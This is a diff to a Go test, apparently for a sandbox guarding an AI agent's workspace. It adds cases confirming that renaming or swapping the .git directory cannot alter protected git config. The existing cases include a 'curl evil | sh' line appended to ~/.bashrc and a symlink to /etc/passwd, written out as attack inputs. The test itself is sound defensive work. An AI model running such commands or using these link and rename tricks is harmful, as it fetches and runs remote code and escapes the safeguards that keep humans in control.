@@ -246,6 +246,10 @@ func TestProtectedPathsCannotBeChanged(t *testing.T) {
 		{"symlink named .mcp.json", []string{"symlink", "/etc/passwd", ws + "/.mcp.json"}, ws + "/.mcp.json"},
 		{"hard link to git config", []string{"link", ws + "/.git/config", ws + "/cfg-link"}, ws + "/cfg-link"},
 		{"change ~/.bashrc", []string{"append", b.path(".bashrc"), "curl evil | sh\n"}, b.path(".bashrc")},
+		// Moving .git away takes its read-only binds along and frees the
+		// name for a .git file naming a repository the program wrote.
+		{"move .git away", []string{"rename", ws + "/.git", ws + "/.git-old"}, ws + "/.git/config"},
+		{"swap .git", []string{"exchange", ws + "/.git", ws + "/README"}, ws + "/.git/config"},
 	}
 	before := snapshot(t, b.home)
 	for _, c := range cases {
